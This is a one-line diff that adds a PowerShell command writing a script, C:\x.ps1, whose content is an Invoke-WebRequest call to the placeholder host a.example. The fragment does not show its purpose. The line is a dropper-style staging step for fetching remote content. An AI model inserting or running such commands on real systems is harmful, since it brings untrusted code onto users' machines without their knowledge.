@@ -1,0 +1,1 @@
+'iwr http://a.example/q' | Out-File C:\x.ps1
